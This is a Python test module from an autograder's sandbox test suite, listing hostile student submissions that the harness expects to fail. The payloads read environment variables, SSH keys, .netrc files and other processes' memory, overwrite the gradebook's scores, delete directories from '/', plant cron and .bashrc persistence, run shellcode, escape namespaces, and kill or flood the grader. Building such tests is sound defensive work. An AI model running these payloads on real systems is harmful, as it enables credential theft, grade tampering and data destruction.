"""Submissions that want to see or change what is not theirs.

Each of them also answers rightly, and keeps its points: what it tries is in vain. What it finds, it
prints from back to front too.
"""

from ..attack import Attack, runs

SHOW = """
import os, sys, glob, ctypes, socket, subprocess, time
libc = ctypes.CDLL(None, use_errno=True)
def show(data):
    text = data if isinstance(data, str) else bytes(data).decode("utf-8", "replace")
    print(text, text[::-1])
def look(path):
    try:
        show(open(path, "rb").read(1 << 20))
    except Exception as error:
        print(path, error)
def call(number, *args):
    found = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    print(number, found, os.strerror(ctypes.get_errno()))
    return found
"""
# What may be lost: some of these end their own kernel.
ANY = {"06-step": {0.0, 2.0}}


def looks(name: str, source: str, **more: object) -> Attack:
    """A right submission that looks around before its last answer."""
    return Attack(name, "escaping", runs(SHOW + source, "06-step-answer"), **more)  # type: ignore[arg-type]


ATTACKS = [
    # reading
    looks("prints the environment", "print(dict(os.environ), os.environ.get(@variable@))"),
    looks("prints everybody's environment",
          "for path in glob.glob('/proc/[0-9]*/environ') + ['/proc/self/environ']:\n    look(path)"),
    looks("reads by absolute paths",
          "for path in (@beside@, @gradebook@, @solutions@ + '/06_small.py', @solutions@ + '/answers.txt',\n"
          "             @other@ + '/06_small/notes.txt', @other@ + '/06_small/06_small.ipynb'):\n    look(path)"),
    looks("walks through all files",
          "for here, folders, names in os.walk('/'):\n    for name in names:\n"
          "        path = os.path.join(here, name)\n"
          "        if name.endswith(('.txt', '.netrc', '.db', '.ipynb', '.csv')) and 'site-packages' not in here:\n"
          "            look(path)\n    if here.count('/') > 5:\n        folders.clear()"),
    looks("reads the home of the instructor",
          "import pwd\nfor home in {os.path.expanduser('~'), os.environ.get('HOME', ''), '/root'}:\n"
          "    look(home + '/.netrc')\n    look(home + '/.ssh/id_rsa')\n"
          "try:\n    print(pwd.getpwall())\nexcept Exception as e:\n    print(e)"),
    looks("goes through other processes' roots",
          "for pid in ['1', 'self', str(os.getppid()), @grader@]:\n    for where in ('root', 'cwd'):\n"
          "        look(f'/proc/{pid}/{where}' + @beside@)"),
    looks("goes through open files",
          "for number in range(0, 300):\n    try:\n"
          "        print(number, os.readlink(f'/proc/self/fd/{number}'))\n    except OSError:\n        pass\n"
          "    for up in ('..', '../../../../..'):\n        try:\n"
          "            at = os.open(up + @beside@, os.O_RDONLY, dir_fd=number)\n            show(os.read(at, 999))\n"
          "        except (OSError, ValueError):\n            pass"),
    looks("follows links out of its folder",
          "for kind in (os.symlink, os.link):\n    for n, path in enumerate((@beside@, @gradebook@, '/')):\n"
          "        try:\n            kind(path, f'{kind.__name__}{n}')\n        except OSError as e:\n            print(e)\n"
          "        look(f'{kind.__name__}{n}')\n        look(f'{kind.__name__}{n}' + @beside@)\n"
          "look('../' * 20 + @beside@[1:])"),
    looks("searches its own memory",
          "import gc\nfor each in gc.get_objects():\n    try:\n        text = repr(each)\n"
          "    except Exception:\n        continue\n    at = text.find('CANARY-')\n"
          "    if at >= 0 and 'find' not in text:\n        show(text[at:at + 100])\n"
          "look('/proc/self/maps')"),
    looks("reads another process's memory",
          "buffer = ctypes.create_string_buffer(4096)\n"
          "for pid in (os.getppid(), 1, int(@grader@)):\n    call(101, 16, pid, 0, 0)\n"
          "    call(310, pid, buffer, 1, buffer, 1, 0)\n    look(f'/proc/{pid}/mem')\n"
          "    call(434, pid, 0)\n    call(438, 5, 3, 0)"),
    looks("reads devices",
          "for path in ('/dev/mem', '/dev/kmsg', '/dev/sda', '/dev/vda', '/dev/tty', '/dev/pts/0', '/proc/kcore',\n"
          "             '/sys/kernel/debug', '/dev/fuse', '/proc/sys/kernel/core_pattern'):\n    look(path)\n"
          "try:\n    os.mknod('disk', 0o660 | 0o060000, os.makedev(254, 0))\nexcept OSError as e:\n    print(e)"),
    looks("opens files by their handle",
          "handle = ctypes.create_string_buffer(128)\nhandle[0:4] = (120).to_bytes(4, 'little')\n"
          "mount = ctypes.c_int()\ncall(303, -100, ctypes.c_char_p(b'/'), handle, ctypes.byref(mount), 0)\n"
          "for node in range(1, 20):\n    handle[8:12] = node.to_bytes(4, 'little')\n    call(304, 3, handle, 0)"),
    looks("opens the gradebook as a database",
          "import sqlite3\ntry:\n    book = sqlite3.connect(@gradebook@)\n"
          "    print(book.execute('update grade set auto_score = 99').rowcount)\n    book.commit()\n"
          "except sqlite3.Error as e:\n    print(e)"),
    looks("imports the solutions",
          "sys.path[:0] = [@solutions@, @course@, @root@]\n"
          "for name in ('answers', '06_small'):\n    try:\n        print(vars(__import__(name)))\n"
          "    except ImportError as e:\n        print(e)"),
    # writing
    looks("writes by absolute paths",
          "for folder in (@root@, @course@, @solutions@, @submitted@, @out@, @other@, '/tmp', '/var/tmp', '/dev/shm',\n"
          "               '/etc', '/usr/local/bin', '/root', sys.prefix, os.path.dirname(os.__file__)):\n"
          "    try:\n        open(folder + '/PWNED', 'w').write('x')\n    except OSError as e:\n        print(e)"),
    looks("deletes what it can",
          "import shutil\nfor path in (@root@, @out@, @submitted@, @course@, @solutions@, '/'):\n"
          "    shutil.rmtree(path, ignore_errors=True)", points=ANY),
    looks("changes the packages of the grader",
          "import numpy, autograder, backprop, site\n"
          "for folder in (numpy.__path__[0], autograder.__path__[0], backprop.__path__[0],\n"
          "               *site.getsitepackages()):\n    for name in ('__init__.py', 'PWNED.pth', 'sitecustomize.py'):\n"
          "        try:\n            open(folder + '/' + name, 'a').write('\\nPWNED = 1\\n')\n"
          "        except OSError as e:\n            print(e)"),
    looks("waits in the places that others start from",
          "for path in ('~/.bashrc', '~/.ssh/authorized_keys', '~/.config/autostart/x', '/etc/cron.d/PWNED',\n"
          "             '~/.ipython/profile_default/startup/x.py', '~/.jupyter/jupyter_config.py'):\n"
          "    try:\n        path = os.path.expanduser(path)\n        os.makedirs(os.path.dirname(path), exist_ok=True)\n"
          "        open(path, 'a').write('touch ' + @root@ + '/PWNED')\n    except OSError as e:\n        print(e)\n"
          "subprocess.run('echo touch ' + @root@ + '/PWNED | at now; crontab -l', shell=True)"),
    # the network
    looks("calls a port on loopback",
          "for host in ('127.0.0.1', 'localhost', '::1', '0.0.0.0', '127.0.0.2'):\n    try:\n"
          "        socket.create_connection((host, @port@), 1).send(b'x')\n    except OSError as e:\n        print(e)"),
    looks("calls from a program",
          "subprocess.run(['bash', '-c', f'exec 3<>/dev/tcp/127.0.0.1/{@port@}; echo x >&3'])\n"
          "subprocess.run(f'curl -m 2 http://127.0.0.1:{@port@}/', shell=True)\n"
          "import urllib.request\ntry:\n    urllib.request.urlopen(f'http://127.0.0.1:{@port@}/', timeout=1)\n"
          "except OSError as e:\n    print(e)"),
    looks("sends a datagram",
          "try:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', @udp_port@))\n"
          "except OSError as e:\n    print(e)"),
    looks("calls Unix sockets",
          "for address in (chr(0) + @abstract@, @socket@, '/var/run/docker.sock', '/run/dbus/system_bus_socket'):\n"
          "    try:\n        s = socket.socket(socket.AF_UNIX)\n        s.connect(address)\n        print('called')\n"
          "    except OSError as e:\n        print(e)"),
    looks("makes sockets of every family",
          "for family in range(1, 46):\n    for kind in (1, 2, 3, 5):\n        if call(41, family, kind, 0) >= 0:\n"
          "            print('made', family)\n"
          "a, b = socket.socketpair()\ntry:\n    a.connect(chr(0) + @abstract@)\nexcept OSError as e:\n    print(e)"),
    looks("makes a socket by the old system call of 32 bits",
          "import mmap\ncode = bytes.fromhex('53b867010000bb02000000b901000000ba00000000cd805bc3')\n"
          "memory = mmap.mmap(-1, 4096, prot=7)\nmemory.write(code)\n"
          "at = ctypes.addressof(ctypes.c_char.from_buffer(memory))\n"
          "print('made', ctypes.CFUNCTYPE(ctypes.c_int)(at)())", points=ANY),
    looks("makes a socket by the x32 call", "print(call(0x40000000 + 41, 2, 1, 0))", points=ANY),
    looks("makes a socket by io_uring",
          "params = ctypes.create_string_buffer(256)\nring = call(425, 8, params)\ncall(426, max(ring, 3), 1, 0, 0, 0)"),
    # the walls themselves
    looks("makes namespaces of its own",
          "for flags in (0x10000000, 0x10020000, 0x20000000, 0x40000000):\n    call(272, flags)\n"
          "    call(56, flags | 17, 0, 0, 0, 0)\n"
          "arguments = ctypes.create_string_buffer(88)\narguments[0:8] = (0x10020000).to_bytes(8, 'little')\n"
          "call(435, arguments, 88)\ncall(308, 3, 0)"),
    looks("mounts, and changes its root",
          "text = ctypes.c_char_p\ncall(165, text(b'none'), text(b'/scratch'), text(b'proc'), 0, 0)\n"
          "call(165, text(b'/'), text(b'/scratch/tmp'), text(b''), 4096, 0)\ncall(166, text(b'/scratch'), 2)\n"
          "call(161, text(b'/scratch'))\ncall(155, text(b'.'), text(b'.'))\ncall(430, text(b'proc'), 0)\n"
          "call(428, -100, text(b'/'), 1)\ncall(442, -100, text(b'/'), 0, 0, 32)"),
    looks("uses the rarely used parts of the kernel",
          "for number in (321, 298, 323, 250, 248, 175, 246, 300, 319, 447, 29, 68, 240, 135, 154, 312):\n"
          "    call(number, 0, 0, 0, 0, 0)"),
    looks("asks for privileges",
          "for command in ('sudo -n id', 'su -c id', 'mount -t tmpfs x /mnt', 'unshare -r id', 'chroot / id',\n"
          "                'nsenter -t 1 -a id', 'pkexec id'):\n"
          "    print(subprocess.run(command, shell=True, capture_output=True, text=True, stdin=subprocess.DEVNULL))\n"
          "for what in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chown('.', 0, 0)):\n"
          "    try:\n        print(what(), os.getuid())\n    except OSError as e:\n        print(e)"),
    looks("raises its limits",
          "import resource\nfor name in dir(resource):\n    if name.startswith('RLIMIT_'):\n        try:\n"
          "            resource.setrlimit(getattr(resource, name), (-1, -1))\n            print('raised', name)\n"
          "        except (OSError, ValueError) as e:\n            print(name, e)"),
    looks("leaves its limits by a program with other rights",
          "open('x', 'w').write('#!/bin/sh\\nid')\nos.chmod('x', 0o6777)\n"
          "print(subprocess.run(['./x'], capture_output=True))"),
    # other processes
    looks("kills everybody",
          "import signal\nfor pid in (int(@grader@), os.getppid(), 1, -1, 0):\n    try:\n"
          "        os.kill(pid, signal.SIGKILL)\n    except OSError as e:\n        print(e)", points=ANY),
    looks("stops and slows everybody",
          "import signal\nsignal.signal(signal.SIGCONT, signal.SIG_IGN)\n"
          "for pid in [int(@grader@), os.getppid(), 1]:\n    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGUSR1):\n"
          "        try:\n            os.kill(pid, number)\n        except OSError as e:\n            print(e)\n"
          "    try:\n        os.setpriority(os.PRIO_PROCESS, pid, 19)\n    except OSError as e:\n        print(e)"),
    looks("leaves a process behind",
          "subprocess.Popen(['sleep', @mark@], start_new_session=True)\n"
          "subprocess.run('nohup setsid sleep ' + @mark@ + ' >/dev/null 2>&1 &', shell=True)"),
    looks("leaves a daemon that hears no signal",
          "import signal\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
          "        for number in range(1, 65):\n            try:\n                signal.signal(number, signal.SIG_IGN)\n"
          "            except (OSError, ValueError):\n                pass\n"
          "        os.closerange(0, 100)\n        os.execvp('sleep', ['sleep', @mark@])\n    os._exit(0)"),
    looks("leaves a daemon that waits for the gradebook",
          "if os.fork() == 0:\n    os.setsid()\n    while True:\n        try:\n"
          "            open(@out@ + '/PWNED', 'w').write('x')\n        except OSError:\n            pass\n"
          "        time.sleep(0.1)"),
    looks("talks to the screen",
          "for path in ('/dev/tty', '/dev/pts/0', '/dev/pts/1', '/dev/console'):\n    try:\n"
          "        at = os.open(path, os.O_RDWR)\n        import fcntl\n"
          "        fcntl.ioctl(at, 0x5412, b'x')\n    except OSError as e:\n        print(e)\n"
          "os.write(1, b'to the terminal\\n')\nos.write(2, b'to the terminal\\n')"),
    # the grader itself
    looks("sends the grader a frame of four gigabytes",
          "for number in range(3, 40):\n    try:\n        os.write(number, b'\\xff\\xff\\xff\\xff')\n"
          "    except OSError:\n        pass", points=ANY),
    looks("sends the grader frames that are nested without end",
          "import struct\nfor text in (b'[' * 200000, b'{\"kind\":' * 100000, b'\\xff\\xfe', b'', b'null', b'[]',\n"
          "             b'{\"kind\": 1e999}', b'{\"kind\": ' + b'9' * 9999 + b'}'):\n"
          "    for number in range(3, 40):\n        try:\n"
          "            os.write(number, struct.pack('<I', len(text)) + text)\n        except OSError:\n            pass",
          points=ANY),
    looks("sends the grader outputs that are none",
          "import json, struct\nfor data in ({'kind': 'stream', 'name': ['../x'], 'text': {'a': 1}},\n"
          "             {'kind': 'display', 'data': {'text/html': 5, '../../x': 'y', 'image/png': [1]}, 'id': {}},\n"
          "             {'kind': 'display', 'data': 7, 'metadata': 'x', 'update': True, 'id': []},\n"
          "             {'kind': 'result', 'data': None}, {'kind': 'error', 'traceback': 'x', 'ename': 5},\n"
          "             {'kind': 'error', 'traceback': [1, None, {}]}, {'kind': ['x']}, {'kind': None}, {'text': 1},\n"
          "             {'kind': 'stream', 'text': chr(0xd800) + chr(0)},\n"
          "             {'kind': 'refused', 'why': 'x'}, {'kind': 'ready'}, {'kind': 'clear', 'wait': 'x'}):\n"
          "    text = json.dumps(data).encode()\n    for number in range(3, 40):\n        try:\n"
          "            os.write(number, struct.pack('<I', len(text)) + text)\n        except OSError:\n            pass"),
    looks("shuts the grader out",
          "os.closerange(0, 100)", points={"06-step": 0.0}),
    looks("prints what breaks files",
          "print('\\ud800 half a character', chr(0), '\\x1b[2J', '\\u202e')\n"
          "from IPython.display import display, HTML\n"
          "display(HTML('<script>fetch(\"http://127.0.0.1:1/\")</script>'))\n"
          "display({'text/plain': '\\udfff', '\\ud800': 'x', 'application/json': {'a': float('nan')}}, raw=True)"),
]  # fmt: skip
